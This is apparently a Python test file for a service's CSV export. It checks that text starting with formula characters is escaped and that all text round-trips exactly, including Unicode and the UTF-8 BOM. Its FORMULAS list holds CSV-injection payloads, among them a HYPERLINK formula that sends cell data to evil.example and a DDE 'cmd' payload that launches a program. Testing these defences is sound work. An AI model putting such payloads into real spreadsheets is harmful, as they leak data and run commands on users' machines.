"""CSV that a spreadsheet opens: no formula runs, and every text is there to the letter."""

import csv
import io

from service.formats.csv.cells import text_of
from tests.exports.reading import fetch, lines, rows
from tests.factories import Desk

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "'=1+1",
    "''=1+1",
]
HARMLESS = ["'tis true", "1=1", "a\n=1+1", "It's -2", '"=1+1"', "''"]


def test_a_text_is_never_a_formula_and_comes_back_to_the_letter(desk: Desk):
    for text in FORMULAS + HARMLESS:
        desk.draft(desk.claim(), rationale=text)
    cells = [row["rationale"] for row in rows(desk.annotator, "edits")]
    assert cells == [f"'{text}" for text in FORMULAS] + HARMLESS
    assert [text_of(cell) for cell in cells] == FORMULAS + HARMLESS
    told = [line["rationale"] for line in lines(desk.annotator, "edits")]
    assert told == FORMULAS + HARMLESS


def test_a_tag_in_a_list_and_a_title_are_no_formulas_either(desk: Desk):
    desk.published(desk.claim(title="=1+1", visibility="public"), tags=["=2+2"])
    (claim,) = rows(desk.annotator, "claims")
    assert (claim["document_title"], claim["tags"]) == ("'=1+1", '["=2+2"]')


def test_a_large_text_with_all_that_csv_knows_comes_back_to_the_letter(desk: Desk):
    text = ('One, "two"; three\r\n\tfour\n\n«fünf» 六 🦆\u2028' * 600)[:19_999] + "."
    desk.submitted(desk.claim(), rationale=text)
    (line,) = lines(desk.annotator, "edits")
    (row,) = rows(desk.annotator, "edits")
    assert row["rationale"] == line["rationale"] == text
    assert len(text) == 20_000


def test_the_file_is_utf_8_with_its_mark_and_rows_end_as_the_standard_says(desk: Desk):
    desk.claim("Zoë cost 9 million.")
    raw = fetch(desk.annotator, "claims.csv").data
    assert raw.startswith(b"\xef\xbb\xbfid,document_id,")
    assert "Zoë".encode() in raw
    header, *found = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    assert {len(row) for row in found} == {len(header)}
    assert raw.count(b"\r\n") == 2
